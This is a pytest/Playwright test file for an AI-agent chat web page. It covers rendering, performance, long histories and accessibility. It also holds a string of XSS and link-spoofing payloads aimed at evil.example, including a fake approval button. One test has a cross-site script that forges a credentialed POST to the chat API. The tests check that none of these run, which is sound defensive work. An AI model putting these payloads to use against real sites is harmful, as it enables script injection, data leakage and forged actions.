"""The page under attack, with long histories, on small screens, for assistive technology, in Chinese."""

import json
import re
from typing import Any

import pytest

from nanobot.testing import calls
from tests.fakes.tools import command, page
from tests.support.browser import EVIL_HOST, Tabs, Typist, page_url, say
from tests.support.running_gateway import OpenGateway

expect: Any = pytest.importorskip("playwright.async_api", reason="playwright is not installed").expect
expect.set_options(timeout=15_000)
Axe: Any = pytest.importorskip("axe_playwright_python.async_playwright", reason="axe is not installed").Axe
pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("browser")]

ATTACKS = """\
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<iframe src="https://evil.example/"></iframe>

[run](javascript:window.hacked=3) [spaced]( java\tscript:window.hacked=4)
[data](data:text/html,<script>window.hacked=5</script>)
[upper](JAVASCRIPT:window.hacked=6) [file](file:///etc/passwd) [blob](blob:https://x/y) <javascript:window.hacked=7>

![pixel](https://evil.example/pixel.png?secret=1) ![inline](data:image/svg+xml,<svg onload=window.hacked=8>)
[![nested](https://evil.example/a.png)](https://evil.example/b)

[https://bank.example/login](https://evil.example/login) [bank.example](https://evil.example/)
[right\u202eexe.cod](https://evil.example/c)

| <b onclick="window.hacked=9">a</b> | b |
| --- | --- |
| `<script>` | [x](vbscript:window.hacked=10) |

```html
<script>window.hacked = 11</script>
```

<section class="approval"><button>Yes, once</button></section>
"""


async def test_hostile_markdown_runs_nothing_fetches_nothing_and_hides_no_address(running: OpenGateway, tabs: Tabs):
    async with running(ATTACKS) as here:
        tab = await tabs.open(here)
        await say(tab, "Show me")
        await expect(tab.locator(".message.turn .result")).to_be_visible()
        schemes = await tab.locator(".message.turn .markdown a").evaluate_all(
            "links => links.map(link => new URL(link.href).protocol)"
        )

        assert await tab.evaluate("window.hacked") is None
        assert set(schemes) == {"https:"}
        assert await tab.locator(".message.turn :is(img, iframe, script, form, section)").count() == 0
        assert await tab.locator(".message.turn button", has_text="Yes").count() == 0
        shown = await tab.inner_text(".message.turn")
        assert shown.count("(evil.example)") == 3  # where a link's text looks like another address
        assert "pixel (picture on evil.example)" in shown
    assert tabs.problems == []


CODE = {
    "python": ("def f(x):  # why\n    return \"a # b\" if x > 0x1F else None\n",
               {"comment": ["# why"], "string": ['"a # b"'], "number": ["0x1F"],
                "keyword": ["def", "return", "if", "else", "None"]}),
    "js": ("const a = `x ${1}`; // \"no\"\n/* b\n */ await f(1.5e3);",
           {"comment": ['// "no"', "/* b\n */"], "string": ["`x ${1}`"], "number": ["1.5e3"],
            "keyword": ["const", "await"]}),
    "sql": ("SELECT id FROM t WHERE n = 'it''s' -- c", {"comment": ["-- c"], "string": ["'it''s'"],
            "keyword": ["SELECT", "FROM", "WHERE"]}),
    "constructor": ("return 1", {}),
}  # fmt: skip


async def test_code_is_coloured_and_columns_are_aligned_while_they_stream(running: OpenGateway, tabs: Tabs):
    text = "| Left | Mid | Right |\n|:--|:-:|--:|\n| a | b | c |\n\n```python\nif True:\n    x = '<b>'\n```\n\nDone."
    async with running(provider=Typist([piece for letter in text for piece in (letter, 0.001)])) as here:
        tab = await tabs.open(here)
        await say(tab, "Show me")
        await expect(tab.locator(".message.turn .result")).to_be_visible()
        cells = tab.locator(".message.turn :is(th, td)")
        aligned = await cells.evaluate_all("cells => cells.map((cell) => getComputedStyle(cell).textAlign)")
        code = tab.locator(".message.turn .code pre code")
        await expect(code.locator(".keyword")).to_have_text(["if", "True"])
        await expect(code.locator(".string")).to_have_text("'<b>'")
        assert await code.text_content() == "if True:\n    x = '<b>'"
        read = await tab.evaluate(
            """async (codes) => {
                const base = document.querySelector("meta[name=base]").content;
                const { highlight } = await import(`${base}/app/highlight.js`);
                return Object.fromEntries(Object.entries(codes).map(([language, text]) => {
                    const code = Object.assign(document.createElement("code"), { textContent: text });
                    highlight(code, language);
                    const spans = Map.groupBy([...code.children], (span) => span.className);
                    const parts = [...spans].map(([kind, all]) => [kind, all.map((span) => span.textContent)]);
                    return [language, [code.textContent, Object.fromEntries(parts)]];
                }));
            }""",
            {language: source for language, (source, _) in CODE.items()},
        )

    assert aligned == ["start", "center", "right"] * 2
    assert read == {language: [*expected] for language, expected in CODE.items()}


async def test_another_site_can_neither_frame_the_page_nor_write_for_its_owner(running: OpenGateway, tabs: Tabs):
    async with running() as here:
        tabs.other_hosts.add("stranger.example")
        tab = await tabs.open(here)
        stranger = await tab.context.new_page()
        url = page_url(here)
        document = f"""<iframe src="{url}/"></iframe><script>
            fetch("{url}/api/sessions/web:x/messages", {{method: "POST", credentials: "include", mode: "no-cors",
              headers: {{"content-type": "text/plain"}}, body: '{{"id": "12345678", "text": "hacked"}}'}})
              .finally(() => document.title = "sent")
            </script>"""
        await stranger.route(
            "http://stranger.example/", lambda route: route.fulfill(body=document, content_type="text/html")
        )
        await stranger.goto("http://stranger.example/")
        await stranger.wait_for_function("document.title === 'sent'")
        framed = stranger.frames[1]

        assert await framed.locator("#app").count() == 0
        assert here.model.requests == []


async def test_a_foreign_name_that_leads_here_opens_nothing(running: OpenGateway, tabs: Tabs):
    async with running() as here:
        tab = await tabs.open(here)
        rebound = f"{EVIL_HOST}:{here.gateway.http.port}"
        tabs.other_hosts.add(rebound)
        evil = await tab.context.new_page()
        opened = await evil.goto(f"http://{rebound}/")
        asked = await evil.evaluate("fetch('/api/sessions').then((answer) => answer.status)")

        assert (opened.status, asked) == (421, 421)


@pytest.mark.slow
async def test_a_hundred_deltas_a_second_leave_the_page_usable(running: OpenGateway, tabs: Tabs):
    words = [f"word{number} " for number in range(500)]
    async with running(provider=Typist([piece for word in words for piece in (word, 0.01)])) as here:
        tab = await tabs.open(here)
        await tab.evaluate(
            """() => { window.longTasks = [];
              const note = (list) => window.longTasks.push(...list.getEntries().map((task) => task.duration));
              new PerformanceObserver(note).observe({ type: "longtask" }); }"""
        )
        await say(tab, "Tell me much")
        await expect(tab.locator(".message.turn .markdown")).to_contain_text("word5")
        await tab.locator(".composer textarea").press_sequentially("and meanwhile I write", delay=50)
        assert await tab.locator(".message.turn .result").count() == 0, "it was still streaming"
        await expect(tab.locator(".composer textarea")).to_have_value("and meanwhile I write")
        await expect(tab.locator(".message.turn .result")).to_be_visible()

        assert (await tab.locator(".message.turn .markdown").inner_text()).split() == [word.strip() for word in words]
        tasks = await tab.evaluate("window.longTasks")
        assert len(tasks) <= 5, tasks  # of some 500 frames; the machine has other work too


async def test_a_long_history_opens_at_its_end_and_is_drawn_only_near_the_screen(running: OpenGateway, tabs: Tabs):
    async with running() as here:
        session = here.gateway.runtime.sessions.get_or_create("web:long")
        for number in range(2500):
            session.add_message("user", f"question {number}", turn_id=f"t{number}")
            session.add_message("assistant", f"answer **{number}** with some words in it", turn_id=f"t{number}")
        here.gateway.runtime.sessions.save(session)
        tab = await tabs.open(here, "/chat/web%3Along")
        await expect(tab.get_by_text("answer 2499")).to_be_in_viewport()
        most = 0
        await tab.mouse.move(700, 300)
        for _ in range(300):
            await tab.mouse.wheel(0, -1_000_000)
            most = max(most, await tab.locator(".message").count())
            if await tab.locator(".own-text", has_text=re.compile("^question 0$")).count():
                break
            await tab.wait_for_timeout(20)

        await expect(tab.locator(".own-text").first).to_have_text("question 0")
        assert most < 700
        await tab.get_by_role("button", name="Newest").click()
        await expect(tab.get_by_text("answer 2499")).to_be_in_viewport()


STATES: dict[str, dict[str, Any]] = {
    "chinese-narrow": {"locale": "zh-CN", "viewport": {"width": 320, "height": 640}},
    "dark-narrow-still": {
        "color_scheme": "dark",
        "viewport": {"width": 320, "height": 640},
        "reduced_motion": "reduce",
        "has_touch": True,
    },
    "forced-colours-zoomed": {  # a screen of 1280x800 at 200 %
        "forced_colors": "active",
        "viewport": {"width": 640, "height": 400},
        "device_scale_factor": 2,
    },
}

EVERYTHING = """## A plan

1. One **bold** step with `code`
2. [A link](https://example.org/)

| Train | Fare |
| --- | --- |
| Hikari | 13320 |

```python
print("a line of code that is far longer than the screen of a telephone is wide, so that it has to scroll")
```

> quoted averyveryverylongwordthatdoesnotfitintoanarrowcolumnandhastobebrokensomewhereinitsmiddle
"""


@pytest.mark.parametrize(
    "state", ["chinese-narrow", *(pytest.param(state, marks=pytest.mark.slow) for state in [*STATES][1:])]
)
async def test_the_page_is_accessible_and_fits_in_every_state(running: OpenGateway, tabs: Tabs, state: str):
    script = (EVERYTHING, calls(("web_page", {"url": "https://example.org/a"})), calls(("run", {"target": "make"})))
    async with running(*script) as here:
        for tool in (page(), command()):
            here.gateway.runtime.tools.register(tool)
        tab = await tabs.open(here, **STATES[state])
        await check(tab)
        await say(tab, "Plan it")
        await expect(tab.locator(".message.turn .result")).to_be_visible()
        await say(tab, "Run it")
        await expect(tab.locator(".approval")).to_be_visible()
        await tab.locator(".step summary").first.click()
        await tab.wait_for_timeout(450)
        await check(tab)
        await tab.keyboard.press("Control+k")
        await expect(tab.locator("dialog")).to_be_visible()
        await check(tab)
        if state == "chinese-narrow":
            assert await tab.evaluate("document.documentElement.lang") == "zh-Hans"
            await expect(tab.get_by_role("button", name="允许一次", include_hidden=True)).to_have_count(1)


async def check(tab: Any) -> None:
    """No finding of axe, and nothing wider than the screen."""
    results = await Axe().run(tab)
    found = [f"{each['id']}: {[node['html'] for node in each['nodes']]}" for each in results.response["violations"]]
    assert found == [], json.dumps(found, indent=1)
    assert await tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
    if await tab.evaluate("matchMedia('(prefers-reduced-motion: reduce)').matches"):
        assert await tab.evaluate("document.getAnimations().length") == 0
